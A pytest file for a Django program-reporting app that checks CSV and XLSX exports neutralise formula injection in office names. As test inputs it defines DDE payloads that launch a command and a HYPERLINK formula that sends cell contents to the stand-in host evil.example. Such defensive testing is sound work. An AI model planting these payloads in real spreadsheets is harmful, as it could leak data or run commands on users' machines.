"""No live formula in any download (attack audit, finding 3).

Rules checked:
- text that starts with = + - @, a tab or a carriage return is written as text:
  in every XLSX (chart exports, the entry template sheet.xlsx, export_figures)
  as an explicit string cell, never a formula (no <f> in the sheet XML); in every
  CSV with a leading apostrophe; numbers stay numbers;
- an office renamed to such a name still round-trips: through the entry
  template (download → upload → confirm) and through export_figures → import_figures
  (CSV and XLSX); the importer takes off the apostrophe the export added;
- sheet titles are valid whatever the chart title (no : \\ / ? * [ ], ≤ 31, unique).
"""

import csv
import io
import zipfile

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from programs import importing
from programs.models import MonthlyReport
from reliefjobs.lib import cells
from tests.conftest import PASSWORD
from tests.test_command_export_figures import wipe
from tests.test_dashboard_data import add_target, seed_zanjan_1397

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"خدابنده")'
CMD = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
EVIL_NAMES = [HYPERLINK, CMD, AT_SUM, MINUS]


# --- the one helper ----------------------------------------------------------------


@pytest.mark.parametrize("text", [*EVIL_NAMES, "\tx", "\rx", "=1+1"])
def test_formula_like_text_is_quoted_in_csv_and_read_back(text):
    assert cells.csv_value(text) == "'" + text
    assert cells.from_csv_text(cells.csv_value(text)) == text


@pytest.mark.parametrize("value", [0, -5, 12.5, 408_000_000_000, "زنجان", "a-b", "it's"])
def test_numbers_and_plain_text_are_unchanged(value):
    assert cells.csv_value(value) == value
    assert cells.from_csv_text(str(value)) == str(value)
    assert cells.csv_value(None) == ""


def test_xlsx_text_is_a_string_cell_numbers_are_numbers():
    book = Workbook(write_only=True)
    sheet = book.create_sheet("t")
    sheet.append(cells.xlsx_row(sheet, [HYPERLINK, -5, 1.5, None, "زنجان"]))
    out = io.BytesIO()
    book.save(out)
    assert b"<f>" not in _sheet_xml(out.getvalue())
    row = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    assert [c.value for c in row] == [HYPERLINK, -5, 1.5, None, "زنجان"]
    assert [c.data_type for c in row][:3] == ["s", "n", "n"]


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("انباشت بانکی: معرفی‌شده، هنوز پرداخت‌نشده", "انباشت بانکی معرفی‌شده، هنوز پرداخت‌نشده"[:31]),
        ("a/b\\c?d*e[f]g", "a b c d e f g"),
        ("'quoted'", "quoted"),
        ("", "data"),
        (":::", "data"),
    ],
)
def test_sheet_titles_are_valid(title, expected):
    made = cells.sheet_title(title)
    assert made == expected.strip()
    assert len(made) <= 31 and not set(made) & set(":\\/?*[]")
    Workbook().active.title = made  # openpyxl accepts it


def test_sheet_titles_are_unique_in_a_workbook():
    long = "x" * 40
    first = cells.sheet_title(long)
    second = cells.sheet_title(long, [first])
    third = cells.sheet_title(long.upper(), [first, second])
    assert len({first.casefold(), second.casefold(), third.casefold()}) == 3
    assert all(len(t) <= 31 for t in (first, second, third))


# --- the downloads ---------------------------------------------------------------


def _sheet_xml(data: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return b"".join(
            archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")
        )


@pytest.fixture
def evil_offices(zanjan):
    offices = seed_zanjan_1397(zanjan, offices=4)
    add_target(zanjan, 1397, "jobs", 4000)
    for office, name in zip(offices, EVIL_NAMES, strict=True):
        office.name = name
        office.save()
    return offices


def _client(user):
    client = Client()
    assert client.login(username=user.username, password=PASSWORD)
    return client


XLSX_URLS = [
    "/export/province/offices.xlsx?year=1397&province=IR-19",
    "/export/breakdowns/jobs-per-loan.xlsx?year=1397&province=IR-19",
    "/export/breakdowns/rial-per-job.xlsx?year=1397&province=IR-19",
]


@pytest.mark.django_db
@pytest.mark.parametrize("url", XLSX_URLS)
def test_chart_xlsx_has_no_formula(url, evil_offices, zanjan_manager):
    response = _client(zanjan_manager).get(url)
    assert response.status_code == 200
    assert b"<f>" not in _sheet_xml(response.content)
    values = {
        c.value
        for row in load_workbook(io.BytesIO(response.content)).active.iter_rows()
        for c in row
    }
    assert set(EVIL_NAMES) <= values


@pytest.mark.django_db
@pytest.mark.parametrize("url", [u.replace(".xlsx", ".csv") for u in XLSX_URLS])
def test_chart_csv_quotes_formula_like_names(url, evil_offices, zanjan_manager):
    response = _client(zanjan_manager).get(url)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = {r[0] if "breakdowns" in url else r[1] for r in rows[1:]}
    assert {"'" + n for n in EVIL_NAMES} <= names
    assert not any(c.startswith(cells.FORMULA_STARTS) for r in rows for c in r)
    # numbers stay plain numbers
    assert any(c.replace(".", "", 1).isdigit() for r in rows[1:] for c in r)


def _template(client, year=1405, month=7):
    response = client.get(reverse("entry:sheet", args=["IR-19", year, month]))
    assert response.status_code == 200
    return response.content


@pytest.mark.django_db
def test_entry_template_has_no_formula_and_round_trips(evil_offices, zanjan_staff):
    from django.core.files.uploadedfile import SimpleUploadedFile

    client = _client(zanjan_staff)
    data = _template(client)
    assert b"<f>" not in _sheet_xml(data)
    book = load_workbook(io.BytesIO(data))
    sheet = book.active
    headers = [c.value for c in sheet[1]]
    trainees = headers.index("آموزش‌دیدگان") + 1
    row = next(r[0].row for r in sheet.iter_rows(min_row=2) if r[1].value == HYPERLINK)
    sheet.cell(row, trainees).value = 52
    out = io.BytesIO()
    book.save(out)
    response = client.post(
        reverse("entry:upload", args=["IR-19"]),
        {"file": SimpleUploadedFile("filled.xlsx", out.getvalue())},
    )
    preview = response.context["preview"]
    assert preview.ok, [e.message for e in preview.errors]
    assert [c.office for c in preview.cells if c.state != "unchanged"] == [HYPERLINK]
    assert client.post(reverse("entry:upload_confirm", args=["IR-19"])).status_code == 302
    report = MonthlyReport.objects.get(office=evil_offices[0], year=1405, month=7)
    assert report.trainees == 52


@pytest.mark.django_db
@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_export_figures_round_trip_with_formula_like_names(evil_offices, tmp_path, suffix):
    path = tmp_path / f"figures.{suffix}"
    call_command("export_figures", "--year", "1397", "-o", str(path), stderr=io.StringIO())
    data = path.read_bytes()
    if suffix == "xlsx":
        assert b"<f>" not in _sheet_xml(data)
    else:
        lines = data.decode("utf-8-sig").splitlines()
        assert any(f"'{CMD}" in line for line in lines)
        assert not any(c.startswith(cells.FORMULA_STARTS) for r in csv.reader(lines) for c in r)
    before = sorted(
        MonthlyReport.objects.filter(year=1397).values_list("office_id", "month", "jobs")
    )
    wipe()
    result = importing.import_figures(path)
    assert result.ok, [e.message for e in result.errors]
    assert result.saved
    after = sorted(
        MonthlyReport.objects.filter(year=1397).values_list("office_id", "month", "jobs")
    )
    assert after == before
